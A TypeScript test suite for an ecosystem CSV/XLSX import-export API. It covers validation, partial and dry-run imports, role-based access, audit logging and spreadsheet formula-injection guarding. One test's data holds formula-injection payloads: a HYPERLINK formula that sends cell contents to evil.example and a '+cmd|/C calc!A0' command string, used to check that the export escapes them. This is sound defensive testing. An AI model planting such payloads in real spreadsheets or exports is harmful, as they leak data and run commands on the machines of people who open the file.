import { sql } from 'drizzle-orm';
import { beforeAll, describe, expect, it } from 'vitest';
import { validUscc } from '../../../test/factories.js';
import { as, createTestHub, createTestUser, startTestApp, type TestContext, type TestUser } from '../../../test/harness.js';
import type { HubRow } from '../../../platform/tenancy/tenancy.js';
import { combinedColumns } from './columns.js';
import { csvLine } from './csv.js';
import { PassThrough } from 'node:stream';
import { exportEcosystem } from './export.js';

let ctx: TestContext;
beforeAll(async () => {
  ctx = await startTestApp();
});

type Row = Record<string, string>;
const csv = (rows: Row[]) => csvLine(combinedColumns) + rows.map((r) => csvLine(combinedColumns.map((c) => r[c] ?? ''))).join('');

/** A small, valid ecosystem: a university, a startup, an investor, two people, relations, facts. */
function ecosystem(): Row[] {
  return [
    {
      table: 'organizations',
      ref: 'uni',
      kind: 'university',
      name_zh: '浙江大学',
      name_en: 'Zhejiang University',
      uscc: validUscc(),
      founded_on: '1897-05-21',
      sectors: 'education',
    },
    {
      table: 'organizations',
      ref: 'bot',
      kind: 'startup',
      name_zh: '云深处',
      name_en: 'Deep Robotics',
      uscc: validUscc(),
      founded_on: '2017-11-01',
      sectors: 'robotics;ai',
      headcount: '300',
      website: 'https://deeprobotics.cn',
    },
    { table: 'organizations', ref: 'vc', kind: 'investor', name_zh: '西湖资本', name_en: 'West Lake Capital', uscc: validUscc(), sectors: 'finance' },
    { table: 'people', ref: 'zhu', name_zh: '朱秋国', name_en: 'Zhu Qiuguo', roles: 'founder;professor', born_on: '1980-03-01', talent_tier: 'B' },
    { table: 'people', ref: 'li', name_zh: '李超', name_en: 'Li Chao', roles: 'engineer', born_on: '1990-06-15' },
    { table: 'relations', kind: 'founded', from_ref: 'zhu', to_ref: 'bot', starts_on: '2017-11-01', source_note: 'company register' },
    {
      table: 'relations',
      kind: 'alumnus_of',
      from_ref: 'zhu',
      to_ref: 'uni',
      starts_on: '1998-09-01',
      ends_on: '2008-06-30',
      degree: 'doctorate',
      source_url: 'https://example.edu/zhu',
    },
    { table: 'relations', kind: 'works_at', from_ref: 'li', to_ref: 'bot', starts_on: '2019-01-01', title: 'Engineer', source_note: 'press' },
    {
      table: 'relations',
      kind: 'invested_in',
      from_ref: 'vc',
      to_ref: 'bot',
      starts_on: '2021-03-01',
      round: 'b',
      amount_minor: '50000000000',
      currency: 'CNY',
      source_note: 'press release',
    },
    { table: 'facts', org_ref: 'bot', metric: 'headcount', as_of: '2024-12-31', quantity: '300', source_note: 'annual report' },
    {
      table: 'facts',
      org_ref: 'bot',
      metric: 'valuation',
      as_of: '2024-12-31',
      amount_minor: '800000000000',
      currency: 'CNY',
      label: 'post-money',
      source_note: 'press',
    },
  ];
}

async function setup() {
  const hub = await createTestHub(ctx);
  const officer = await createTestUser(ctx, { hub, roles: ['program_officer'] });
  return { hub, officer };
}

function importFile(hub: HubRow, user: TestUser | null, body: string | Buffer, query = 'format=csv', headers: Record<string, string> = {}) {
  return ctx.app.inject(
    as(user, { method: 'POST', url: `/api/hubs/${hub.slug}/ecosystem/import?${query}`, payload: body, headers: { 'content-type': 'text/csv', ...headers } }),
  );
}

async function counts(hub: HubRow) {
  const q = async (table: string) =>
    (await ctx.database.db.execute(sql.raw(`SELECT count(*)::int AS n FROM ${table} WHERE hub_id = '${hub.id}'`))).rows[0]!.n as number;
  return { organizations: await q('organizations'), people: await q('people'), relations: await q('relations'), facts: await q('organization_facts') };
}

async function auditActions(hub: HubRow) {
  return (await ctx.database.db.execute(sql`SELECT action FROM audit_events WHERE hub_id = ${hub.id} ORDER BY seq`)).rows.map((r) => r.action);
}

/** The ecosystem as sorted lines of names, kinds and values: equal for equal ecosystems in any hub. */
async function canonical(hub: HubRow) {
  const { rows } = await ctx.database.db.execute(sql`
    SELECT 'o|' || kind || '|' || name_zh || '|' || name_en || '|' || uscc || '|' || coalesce(founded_on::text, '') || '|' || array_to_string(sectors, ';') || '|' || coalesce(headcount::text, '') || '|' || coalesce(website, '') AS line FROM organizations WHERE hub_id = ${hub.id}
    UNION ALL SELECT 'p|' || name_zh || '|' || name_en || '|' || array_to_string(roles, ';') || '|' || coalesce(born_on::text, '') || '|' || coalesce(talent_tier, '') FROM people WHERE hub_id = ${hub.id}
    UNION ALL SELECT 'r|' || r.kind || '|' || coalesce(p.name_en, fo.name_en) || '|' || t.name_en || '|' || concat_ws('|', r.starts_on, r.ends_on, r.title, r.degree, r.round, r.amount_minor, r.currency, r.source_url, r.source_note)
      FROM relations r JOIN organizations t ON t.hub_id = r.hub_id AND t.id = r.to_organization_id
      LEFT JOIN people p ON p.hub_id = r.hub_id AND p.id = r.from_person_id LEFT JOIN organizations fo ON fo.hub_id = r.hub_id AND fo.id = r.from_organization_id
      WHERE r.hub_id = ${hub.id}
    UNION ALL SELECT 'f|' || o.name_en || '|' || concat_ws('|', f.metric, f.as_of, f.amount_minor, f.currency, f.quantity, f.label, f.source_url, f.source_note)
      FROM organization_facts f JOIN organizations o ON o.hub_id = f.hub_id AND o.id = f.organization_id WHERE f.hub_id = ${hub.id}
    ORDER BY 1`);
  return rows.map((r) => r.line);
}

describe('ecosystem import', () => {
  it('imports a valid file: every row written, one audit event with counts only', async () => {
    const { hub, officer } = await setup();
    const res = await importFile(hub, officer, csv(ecosystem()));
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ written: { organizations: 3, people: 2, relations: 4, facts: 2 }, errors: [], errorCount: 0, rejected: 0 });
    expect(await counts(hub)).toEqual({ organizations: 3, people: 2, relations: 4, facts: 2 });
    const events = (await ctx.database.db.execute(sql`SELECT action, payload FROM audit_events WHERE hub_id = ${hub.id} AND action = 'ecosystem.imported'`))
      .rows;
    expect(events).toHaveLength(1);
    expect(JSON.stringify(events[0]!.payload)).not.toMatch(/Zhu|朱/);
  });

  it('a file with bad rows writes nothing and names every bad row, line and field, in both languages', async () => {
    const { hub, officer } = await setup();
    const rows = ecosystem();
    rows[1] = { ...rows[1]!, uscc: '91330100MA2XXXXXX0' }; // line 3: bad check character
    rows[3] = { ...rows[3]!, born_on: '1980-02-30' }; // line 5: no such day
    rows[9] = { ...rows[9]!, metric: 'profit' }; // line 11
    const body = csv(rows);
    const en = await importFile(hub, officer, body);
    expect(en.statusCode).toBe(200);
    const result = en.json();
    expect(result.written).toEqual({ organizations: 0, people: 0, relations: 0, facts: 0 });
    const found = result.errors.map((e: { sheet: string; line: number; field: string; code: string }) => `${e.sheet}:${e.line}:${e.field}:${e.code}`);
    // The bad startup and founder also break the rows that point at them.
    expect(found).toEqual(
      expect.arrayContaining([
        'organizations:3:uscc:INVALID_USCC',
        'people:5:born_on:INVALID_DATE',
        'facts:11:metric:INVALID_OPTION',
        'relations:7:from_ref:UNKNOWN_REF',
        'relations:7:to_ref:UNKNOWN_REF',
      ]),
    );
    expect(result.errors[0].message).toMatch(/Unified Social Credit Code/);
    const zh = (await importFile(hub, officer, body, 'format=csv', { 'accept-language': 'zh-CN' })).json();
    expect(zh.errors[0].message).toMatch(/统一社会信用代码/);
    expect(await counts(hub)).toEqual({ organizations: 0, people: 0, relations: 0, facts: 0 });
    expect(await auditActions(hub)).not.toContain('ecosystem.imported');
  });

  it('partial mode writes the valid rows and rejects the rest (and what depends on them)', async () => {
    const { hub, officer } = await setup();
    const rows = ecosystem();
    rows[4] = { ...rows[4]!, name_en: '' }; // Li: no English name; his works_at row goes too
    const res = (await importFile(hub, officer, csv(rows), 'format=csv&partial=true')).json();
    expect(res.rejected).toBe(2);
    expect(res.errors.map((e: { line: number; field: string }) => `${e.line}:${e.field}`)).toEqual(['6:name_en', '9:from_ref']);
    expect(res.written).toEqual({ organizations: 3, people: 1, relations: 3, facts: 2 });
    expect(await counts(hub)).toEqual(res.written);
  });

  it('a dry run validates and writes nothing', async () => {
    const { hub, officer } = await setup();
    const res = (await importFile(hub, officer, csv(ecosystem()), 'format=csv&dryRun=true')).json();
    expect(res).toMatchObject({ dryRun: true, written: { organizations: 3, people: 2, relations: 4, facts: 2 } });
    expect(await counts(hub)).toEqual({ organizations: 0, people: 0, relations: 0, facts: 0 });
  });

  it('refuses impossible dates: before birth, a founding far from the founding date, an end before the start', async () => {
    const { hub, officer } = await setup();
    const rows = ecosystem();
    rows[5] = { ...rows[5]!, starts_on: '2012-01-01' }; // founded 2017: not within a year
    rows[6] = { ...rows[6]!, starts_on: '1975-09-01', ends_on: '2008-06-30' }; // before birth (1980)
    rows[7] = { ...rows[7]!, starts_on: '2019-01-01', ends_on: '2018-01-01' };
    const res = (await importFile(hub, officer, csv(rows))).json();
    const found = res.errors.map((e: { line: number; field: string; code: string }) => `${e.line}:${e.field}:${e.code}`);
    expect(found).toEqual(['7:starts_on:NOT_NEAR_FOUNDING', '8:starts_on:BEFORE_BIRTH', '9:ends_on:ENDS_BEFORE_START']);
    expect((await counts(hub)).relations).toBe(0);
  });

  it('refuses unknown and duplicate refs, an alumnus of a non-university, a USCC already in the hub; accepts a hub USCC as a ref', async () => {
    const { hub, officer } = await setup();
    const rows = ecosystem();
    expect((await importFile(hub, officer, csv(rows.slice(0, 3)))).json().errorCount).toBe(0);
    const botUscc = rows[1]!.uscc!;
    const second: Row[] = [
      { table: 'organizations', ref: 'again', kind: 'company', name_zh: '重复', name_en: 'Again', uscc: botUscc },
      { table: 'people', ref: 'zhu', name_zh: '朱', name_en: 'Zhu' },
      { table: 'people', ref: 'zhu', name_zh: '朱二', name_en: 'Zhu Two' },
      { table: 'relations', kind: 'works_at', from_ref: 'zhu', to_ref: botUscc, source_note: 'by USCC' },
      { table: 'relations', kind: 'works_at', from_ref: 'nobody', to_ref: 'bot', source_note: 'x' },
      { table: 'relations', kind: 'alumnus_of', from_ref: 'zhu', to_ref: botUscc, source_note: 'x' },
      { table: 'facts', org_ref: 'ghost', metric: 'headcount', as_of: '2024-01-01', quantity: '1', source_note: 'x' },
    ];
    const res = (await importFile(hub, officer, csv(second))).json();
    const found = res.errors.map((e: { line: number; field: string; code: string }) => `${e.line}:${e.field}:${e.code}`);
    expect(found).toEqual([
      '2:uscc:ALREADY_IN_HUB',
      '4:ref:DUPLICATE_REF',
      '6:from_ref:UNKNOWN_REF',
      '6:to_ref:UNKNOWN_REF',
      '7:to_ref:NOT_A_UNIVERSITY',
      '8:org_ref:UNKNOWN_REF',
    ]);
  });

  it('refuses a file with an unknown column (e.g. resident_id) whole, even in partial mode', async () => {
    const { hub, officer } = await setup();
    const body = 'table,ref,name_zh,name_en,resident_id\r\npeople,p1,张三,Zhang San,330106199001011234\r\n';
    const res = (await importFile(hub, officer, body, 'format=csv&partial=true')).json();
    expect(res.errors).toEqual([expect.objectContaining({ line: 1, field: 'resident_id', code: 'UNKNOWN_FIELD' })]);
    expect((await counts(hub)).people).toBe(0);
  });

  it.each(['csv', 'xlsx'] as const)('round trip (%s): export, then import into an empty hub, gives the same ecosystem', async (format) => {
    const { hub, officer } = await setup();
    // Names a spreadsheet would run as formulas: the CSV guards them with a `'`, the import takes it off.
    const rows = ecosystem();
    Object.assign(rows[2]!, { name_en: '=SUM(1)', name_zh: "'+西湖资本" });
    expect((await importFile(hub, officer, csv(rows))).json().errorCount).toBe(0);
    const exported = await ctx.app.inject(as(officer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=${format}` }));
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-disposition']).toContain(`.${format}`);
    expect(exported.body).not.toMatch(/resident/);
    const empty = await createTestHub(ctx);
    const admin = await createTestUser(ctx, { hub: empty, roles: ['hub_admin'] });
    const contentType = format === 'csv' ? 'text/csv' : 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
    const res = await importFile(empty, admin, exported.rawPayload, `format=${format}`, { 'content-type': contentType });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.json().errors).toEqual([]);
    expect(res.json()).toMatchObject({ errorCount: 0, written: { organizations: 3, people: 2, relations: 4, facts: 2 } });
    expect(await canonical(empty)).toEqual(await canonical(hub));
    expect(await canonical(empty)).toEqual(expect.arrayContaining([expect.stringMatching(/^o\|investor\|'\+西湖资本\|=SUM\(1\)\|/)]));
  });

  it('the CSV export guards names a spreadsheet would run as formulas, and importing that export gives the names back', async () => {
    const { hub, officer } = await setup();
    const hyperlink = '=HYPERLINK("https://evil.example/?x="&A1,"Click")';
    const command = '+cmd|/C calc!A0';
    const rows = ecosystem();
    Object.assign(rows[0]!, { name_en: hyperlink, name_zh: '@SUM(1)' });
    Object.assign(rows[1]!, { name_en: command, name_zh: '-2+3' });
    expect((await importFile(hub, officer, csv(rows))).json().errorCount).toBe(0);
    const names = async (h: HubRow) =>
      (await ctx.database.db.execute(sql`SELECT name_en, name_zh FROM organizations WHERE hub_id = ${h.id} ORDER BY name_en`)).rows;
    expect(await names(hub)).toEqual(
      expect.arrayContaining([
        { name_en: hyperlink, name_zh: '@SUM(1)' },
        { name_en: command, name_zh: '-2+3' },
      ]),
    );

    const exported = await ctx.app.inject(as(officer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }));
    expect(exported.statusCode).toBe(200);
    const lines = exported.body.split('\r\n');
    expect(lines).toContainEqual(expect.stringContaining(`,'@SUM(1),"'=HYPERLINK(""https://evil.example/?x=""&A1,""Click"")",`));
    expect(lines).toContainEqual(expect.stringContaining(`,'-2+3,'+cmd|/C calc!A0,`));
    // No field anywhere starts as a formula would.
    for (const line of lines.filter(Boolean)) for (const field of line.split(',')) expect(field.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);

    const empty = await createTestHub(ctx);
    const admin = await createTestUser(ctx, { hub: empty, roles: ['hub_admin'] });
    const res = await importFile(empty, admin, exported.rawPayload);
    expect(res.json()).toMatchObject({ errorCount: 0 });
    expect(await names(empty)).toEqual(await names(hub));
    expect(await canonical(empty)).toEqual(await canonical(hub));
  });
});

describe('ecosystem import and export: who may', () => {
  it('an applicant (no hub role) or a reviewer gets 404 on import and export (people are personal data); finance may export but not import (403)', async () => {
    const { hub } = await setup();
    const applicant = await createTestUser(ctx);
    expect((await importFile(hub, applicant, csv(ecosystem()))).statusCode).toBe(404);
    expect((await ctx.app.inject(as(applicant, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(404);
    const reviewer = await createTestUser(ctx, { hub, roles: ['reviewer'] });
    expect((await importFile(hub, reviewer, csv(ecosystem()))).statusCode).toBe(404);
    expect((await ctx.app.inject(as(reviewer, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(404);
    const finance = await createTestUser(ctx, { hub, roles: ['finance_officer'] });
    expect((await importFile(hub, finance, csv(ecosystem()))).statusCode).toBe(403);
    expect((await ctx.app.inject(as(finance, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=csv` }))).statusCode).toBe(200);
    // The export carries every person's name and birth date: it is audited as a personal read, once, by whom.
    const { rows } = await ctx.database.db.execute<{ actor_id: string; subject_type: string }>(
      sql`SELECT actor_id, subject_type FROM audit_events WHERE hub_id = ${hub.id} AND action = 'personal.read' AND subject_id = 'ecosystem export'`,
    );
    expect(rows).toEqual([{ actor_id: finance.id, subject_type: 'person' }]);
    expect((await importFile(hub, null, csv(ecosystem()))).statusCode).toBe(401);
  });

  it("another hub's staff gets 404 on import and export", async () => {
    const { hub } = await setup();
    const other = await createTestHub(ctx);
    const stranger = await createTestUser(ctx, { hub: other, roles: ['hub_admin'] });
    expect((await importFile(hub, stranger, csv(ecosystem()))).statusCode).toBe(404);
    expect((await ctx.app.inject(as(stranger, { method: 'GET', url: `/api/hubs/${hub.slug}/ecosystem/export?format=xlsx` }))).statusCode).toBe(404);
    expect(await counts(hub)).toEqual({ organizations: 0, people: 0, relations: 0, facts: 0 });
  });
});

describe('ecosystem import: the request', () => {
  it('takes text/csv with a charset parameter and refuses an empty body with a field', async () => {
    const { hub, officer } = await setup();
    const ok = await importFile(hub, officer, csv(ecosystem().slice(0, 1)), 'format=csv&dryRun=true', { 'content-type': 'text/csv; charset=utf-8' });
    expect(ok.json()).toMatchObject({ written: { organizations: 1 } });
    const empty = await importFile(hub, officer, '', 'format=csv');
    expect(empty.statusCode).toBe(400);
    expect(empty.json().error.fields[0]).toMatchObject({ path: 'body', code: 'REQUIRED' });
  });

  it('a file that is not a workbook is a 400 on the body, not a 500, and writes nothing', async () => {
    const { hub, officer } = await setup();
    const before = await counts(hub);
    const garbage = await importFile(hub, officer, 'this is not a zip file', 'format=xlsx', { 'content-type': 'application/octet-stream' });
    expect(garbage.statusCode).toBe(400);
    expect(garbage.json().error.fields[0]).toMatchObject({ path: 'body', code: 'INVALID_FORMAT' });
    expect(await counts(hub)).toEqual(before);
  });
});

describe('ecosystem import: XLSX', () => {
  it('names the sheet and row number of each bad row, and refuses an unknown sheet', async () => {
    const { hub, officer } = await setup();
    const ExcelJS = (await import('exceljs')).default;
    const workbook = new ExcelJS.Workbook();
    const orgs = workbook.addWorksheet('organizations');
    orgs.addRow(['ref', 'kind', 'name_zh', 'name_en', 'uscc', 'founded_on']);
    orgs.addRow(['a', 'startup', '甲', 'Alpha', validUscc(), new Date(Date.UTC(2020, 0, 2))]); // a date cell reads as 2020-01-02
    orgs.addRow(['b', 'spaceship', '乙', 'Beta', validUscc()]);
    workbook.addWorksheet('notes').addRow(['anything']);
    const body = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = (await importFile(hub, officer, body, 'format=xlsx', { 'content-type': 'application/octet-stream' })).json();
    expect(res.errors.map((e: { sheet: string; line: number; field: string; code: string }) => `${e.sheet}:${e.line}:${e.field}:${e.code}`)).toEqual([
      'organizations:3:kind:INVALID_OPTION',
      'notes:1:sheet:INVALID_OPTION',
    ]);
    workbook.removeWorksheet(workbook.getWorksheet('notes')!.id);
    orgs.getRow(3).getCell(2).value = 'company';
    const fixed = (
      await importFile(hub, officer, Buffer.from(await workbook.xlsx.writeBuffer()), 'format=xlsx', { 'content-type': 'application/octet-stream' })
    ).json();
    expect(fixed).toMatchObject({ errorCount: 0, written: { organizations: 2 } });
    const founded = (await ctx.database.db.execute(sql`SELECT founded_on::text AS d FROM organizations WHERE hub_id = ${hub.id} AND name_en = 'Alpha'`))
      .rows[0]!.d;
    expect(founded).toBe('2020-01-02');
  });
});

describe('ecosystem export: a reader that goes away', () => {
  it('ends the export (and frees its connection) instead of waiting for a reader that hung up', async () => {
    const { hub, officer } = await setup();
    expect((await importFile(hub, officer, csv(ecosystem()))).json().errorCount).toBe(0);
    const out = new PassThrough();
    out.destroy();
    const actor = { userId: officer.id, hubRoles: ['program_officer' as const] };
    await expect(exportEcosystem(ctx.database.db, { hub, actor }, 'xlsx', out)).rejects.toThrow(/export aborted/);
  });
});
